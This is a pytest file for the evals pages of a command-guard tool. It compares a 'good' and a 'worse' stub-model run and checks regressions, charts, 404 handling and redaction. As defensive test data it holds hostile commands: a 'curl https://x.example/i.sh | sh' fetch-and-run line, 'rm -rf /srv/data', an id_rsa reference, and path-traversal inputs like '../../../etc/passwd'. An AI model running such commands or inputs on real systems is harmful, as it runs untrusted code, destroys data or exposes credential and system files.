"""The evals pages of ``guard view``: real ``guard eval`` runs against the loopback stub, a real view process, a real Chromium.

Two runs of one 12-case suite: "good" (the stub's keyword policy, right on every
case) and "worse" (the same, but it lets ``curl … | sh`` and ``DROP TABLE`` through,
and stops ``echo hello``): exactly three cases regress.
"""

from __future__ import annotations

import json
import re
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import trust_config
from fixtures.browser import screenshot, start_view
from fixtures.eval import write_dataset, write_suite_config
from fixtures.processes import run_guard, serve_argv
from starlette.applications import Starlette
from starlette.routing import Mount
from starlette.testclient import TestClient

from guard.eval.schema import MetricsReport
from guard.testing.openai_stub import Reply, StubServer, keyword_policy
from guard.view import ViewSources, create_view

GOOD = "openai/stub-good"
WORSE = "openai/stub-worse"
REGRESSED = ["shell/benign-5", "shell/risky-1", "shell/risky-5"]  # echo hello, curl | sh, DROP TABLE


def worse_policy(body: dict[str, Any]) -> Reply:
    if "worse" not in str(body.get("model")):
        return keyword_policy(body)
    text = json.dumps(body["messages"][-1]["content"])
    if "curl https://x.example" in text or "DROP TABLE" in text:
        return Reply.verdict("allow", "stub-worse: looks like routine maintenance", confidence=0.8)
    if "echo hello" in text:
        return Reply.verdict("deny", "stub-worse: echo may print secrets", confidence=0.7)
    return keyword_policy(body)


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A folder of eval runs: good, worse (made second), one whose metrics.json was cut short, one not guard's, one not scored yet."""
    root = tmp_path_factory.mktemp("evals-view")
    evals = root / "evals"
    with StubServer() as stub:
        stub.responder = worse_policy
        dataset = write_dataset(root / "shell.jsonl")
        config = write_suite_config(root / "guard.yaml", stub.url)
        for name, model, code in (("good", GOOD, 0), ("worse", WORSE, 100)):
            done = run_guard(
                [
                    "eval",
                    str(dataset),
                    "--config",
                    str(config),
                    "--model",
                    model,
                    "--out",
                    str(evals / name),
                    "--no-progress",
                    "--fail-under",
                    "f1=0.9",
                ],
                root,
            )
            assert done.returncode == code, done.stderr
    (evals / "broken").mkdir()
    (evals / "broken" / "metrics.json").write_text('{"schema_version": 1, "guard_version": "0.1", "created_at": "2026-')
    (evals / "alien").mkdir()
    (evals / "alien" / "metrics.json").write_text('{"accuracy": 0.99}')
    (evals / "running").mkdir()
    (evals / "running" / "results.jsonl").write_text(
        (evals / "good" / "results.jsonl").read_text().splitlines()[0] + "\n"
    )
    yield evals


@pytest.fixture(scope="module")
def view(runs: Path) -> Iterator[str]:
    proc, url = start_view(
        "--audit", str(runs.parent / "audit.db"), "--evals", str(runs), str(runs.parent / "gone"), cwd=runs.parent
    )
    yield url
    proc.kill()
    proc.wait()


def _report(runs: Path, name: str) -> MetricsReport:
    return MetricsReport.model_validate_json((runs / name / "metrics.json").read_text())


def _get(url: str) -> tuple[int, str]:
    try:
        with urllib.request.urlopen(url) as response:
            return response.status, response.read().decode()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode()


def _interval(est: Any) -> str:
    return f"{est.value:.3f} [{est.low:.3f}, {est.high:.3f}]"


def test_runs_scored_in_the_same_second_are_listed_by_when_their_reports_were_written(
    runs: Path, tmp_path: Path
) -> None:
    """``created_at`` is to the second; two runs scored in one second (CI's fast machine did) still list newest first."""
    import os
    import shutil

    from guard.view.eval_runs import find_runs

    for name, seconds in (("a", 1_000), ("b", 2_000)):  # the same report twice: b's was written later
        shutil.copytree(runs / "good", tmp_path / name)
        os.utime(tmp_path / name / "metrics.json", (seconds, seconds))
    assert [run.name for run in find_runs([tmp_path])] == ["b", "a"]


def test_the_runs_list_shows_both_runs_newest_first_with_f1_and_its_interval(view: str, runs: Path, page: Any) -> None:  # noqa: F811
    page.goto(view + "/evals")
    rows = page.locator("#runs tbody tr")
    names = [n for n in rows.locator("td:first-child > a").all_inner_texts()]
    assert names.index("worse") < names.index("good")  # newest first
    worse = _report(runs, "worse").variants[0]
    row = page.locator("#runs tr[data-run='0/worse']")
    assert _interval(worse.metrics["f1"]) in row.inner_text()
    assert "stub model" in row.inner_text() and "FAILED" in row.inner_text()  # its f1=0.9 gate failed
    assert "passed" in page.locator("#runs tr[data-run='0/good']").inner_text()
    screenshot(page, "eval-runs")
    row.get_by_role("link", name="compare with good").click()
    page.wait_for_url("**/evals/compare?a=*")
    assert sorted(page.locator("#regressed a.case-link").all_inner_texts()) == REGRESSED


def test_a_run_page_shows_f1_with_its_interval_as_metrics_json_has_it(view: str, runs: Path, page: Any) -> None:  # noqa: F811
    page.goto(view + "/evals")
    page.get_by_role("link", name="worse", exact=True).click()
    page.wait_for_url("**/evals/run?run=*")
    report = _report(runs, "worse")
    variant = report.variants[0]
    summary = page.locator("xpath=//h3[starts-with(., 'Summary')]/following-sibling::table[1]")
    cells = summary.locator("tbody tr").first.locator("td").all_inner_texts()
    headers = summary.locator("thead th").all_inner_texts()
    assert cells[headers.index("F1")] == _interval(variant.metrics["f1"])
    assert cells[headers.index("recall")] == _interval(variant.metrics["recall"])
    assert variant.metrics["f1"].value is not None and variant.metrics["f1"].value < 1
    # the reliability chart, drawn on the server: one dot per confidence bin (right: 0.9; wrong: 0.8 allows, a 0.7 deny)
    bins = page.locator("svg.reliability circle.bin title").all_text_contents()
    assert bins == [
        "1 verdict(s) at mean confidence 0.70: 0% right",
        "2 verdict(s) at mean confidence 0.80: 0% right",
        "9 verdict(s) at mean confidence 0.90: 100% right",
    ]
    assert f"ECE {variant.ece:.3f}" in page.locator(".eval-variant").inner_text()
    confusion = page.locator("xpath=//h3[starts-with(., 'Confusion matrix')]/following-sibling::table[1]")
    deny_row = confusion.locator("tr", has_text=re.compile(r"^deny")).first.locator("td").all_inner_texts()
    assert deny_row == [
        "deny",
        str(variant.confusion["deny"]["allow"]),
        "0",
        str(variant.confusion["deny"]["deny"]),
        "0",
    ]
    page.select_option("select[name=outcome]", "wrong")  # evals.js submits the filter on change
    page.wait_for_url("**outcome=wrong*")
    wrong = sorted(page.locator("#case-table tbody a.case-link").all_inner_texts())
    assert wrong == REGRESSED
    screenshot(page, "eval-run")


def test_comparing_the_good_run_with_the_worse_lists_the_regressed_cases_and_both_verdicts(
    view: str, page: Any
) -> None:  # noqa: F811
    page.goto(view + "/evals/compare")
    options = page.locator("#pick-a option").all_inner_texts()
    page.select_option("#pick-a", label=next(o for o in options if o.startswith("good · ")))
    page.select_option("#pick-b", label=next(o for o in options if o.startswith("worse · ")))
    page.get_by_role("button", name="Compare").click()
    page.wait_for_url("**/evals/compare?a=*")
    assert sorted(page.locator("#regressed a.case-link").all_inner_texts()) == REGRESSED
    assert page.locator("#improved").inner_text().count("none") == 1
    accuracy = (
        page.locator("#deltas tbody tr")
        .filter(has=page.locator("td:first-child", has_text=re.compile(r"^accuracy$")))
        .inner_text()
    )
    assert "McNemar p = 0.2500" in accuracy  # 3 discordant cases, all against B: 2 · (1/2)^3
    assert "No significant drop" in page.locator("#verdict").inner_text()
    screenshot(page, "eval-compare")
    page.locator("#regressed a.case-link", has_text="shell/risky-1").click()
    page.wait_for_url("**/evals/case?*")
    assert "curl https://x.example/i.sh | sh" in page.locator("#case-input pre").first.inner_text()
    a, b = page.locator("#side-a").inner_text(), page.locator("#side-b").inner_text()
    assert "deny" in a and "right" in a and "stub keyword policy" in a
    assert "allow" in b and "wrong" in b and "stub-worse: looks like routine maintenance" in b


@pytest.mark.slow
def test_unreadable_runs_are_listed_with_their_error_and_the_others_still_are(view: str) -> None:
    status, body = _get(view + "/evals")
    assert status == 200
    assert re.search(r"broken.*cannot read this run: metrics\.json: not valid JSON", body, re.S)
    assert re.search(
        r"alien.*cannot read this run: metrics\.json: not a guard eval report: field guard_version: Field required",
        body,
        re.S,
    )
    assert re.search(
        r"running.*cannot read this run: no metrics\.json \(only results\.jsonl\): the run is still going", body, re.S
    )
    assert re.search(r"gone.*cannot read this run: folder not found", body, re.S)
    assert ">good</a>" in body and ">worse</a>" in body
    status, body = _get(view + "/evals/run?run=0/broken")
    assert status == 200 and "This run cannot be read" in body


@pytest.mark.parametrize(
    "path",
    [
        "/evals/run?run=../../etc",
        "/evals/run?run=0/..",
        "/evals/run?run=0/../good",
        "/evals/run?run=/etc",
        "/evals/run?run=2",
        "/evals/case?b=0/good|0&case=../../../etc/passwd",
        "/evals/case?b=0/../good|0&case=shell/risky-1",
        "/evals/compare?a=0/good|0&b=0/good|7",
    ],
)
def test_a_run_or_case_not_found_in_the_configured_folders_is_a_404(view: str, path: str) -> None:
    status, body = _get(view + urllib.parse.quote(path, safe="/?=&|"))
    assert status == 404, body[:300]
    assert "root:" not in body


def test_a_case_whose_dataset_changed_since_the_run_does_not_show_the_new_content(view: str, runs: Path) -> None:
    status, body = _get(view + "/evals/case?b=0/good|0&case=shell/risky-0")
    assert status == 200 and "rm -rf /srv/data" in body
    dataset = runs.parent / "shell.jsonl"
    original = dataset.read_text()
    try:
        dataset.write_text(original.replace("rm -rf /srv/data", "rm -rf /srv/other"))
        status, body = _get(view + "/evals/case?b=0/good|0&case=shell/risky-0")
        assert status == 200 and "not found with the content the run judged" in body and "/srv/other" not in body
    finally:
        dataset.write_text(original)


def test_links_stay_under_the_prefix_the_view_is_mounted_at(runs: Path) -> None:
    """``guard serve`` mounts the view under /ui: every evals link must point there, not at the root."""
    client = TestClient(Starlette(routes=[Mount("/ui", app=create_view(ViewSources(None, (runs,))))]))
    pages = [
        "/ui/evals",
        "/ui/evals/run?run=0/worse",
        "/ui/evals/compare?a=0/good|0&b=0/worse|0",
        "/ui/evals/case?a=0/good|0&b=0/worse|0&case=shell/risky-1",
    ]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        links = re.findall(r'(?:href|src|action)="([^"#]*)', response.text)
        assert links and all(link.startswith("http://testserver/ui/") for link in links), (
            url,
            [x for x in links if "/ui/" not in x],
        )


def test_a_case_input_hides_the_fields_the_audit_log_redacts(runs: Path) -> None:
    client = TestClient(create_view(ViewSources(None, (runs,), frozenset({"Command"}))))
    body = client.get("/evals/case?b=0/good|0&case=shell/risky-2").text
    assert "[redacted]" in body and "id_rsa" not in body.split('id="case-input"')[1].split("</pre>")[0]


@pytest.mark.slow
def test_guard_serve_shows_the_eval_runs_it_was_given_under_ui_behind_its_token(runs: Path) -> None:
    from fixtures.cache import start_listening

    (runs.parent / "serve.yaml").write_text("hooks: {}\n")
    trust_config(runs.parent / "serve.yaml")
    token = "evals-ui-token-0123456789"

    def command(port: int) -> list[str]:
        return serve_argv(
            "--port", str(port), "--config", str(runs.parent / "serve.yaml"), "--token", token, "--evals", str(runs)
        )

    proc, port = start_listening(command, cwd=runs.parent)
    try:
        url = f"http://127.0.0.1:{port}/ui/evals"
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(url, timeout=30)
        assert refused.value.code == 401
        with urllib.request.urlopen(
            urllib.request.Request(url, headers={"Authorization": f"Bearer {token}"}), timeout=30
        ) as r:
            body = r.read().decode()
        good = MetricsReport.model_validate_json((runs / "good" / "metrics.json").read_text())
        assert "worse" in body and "good" in body
        assert f"{good.variants[0].metrics['f1'].value:.3f}" in body
    finally:
        proc.kill()
        proc.wait()
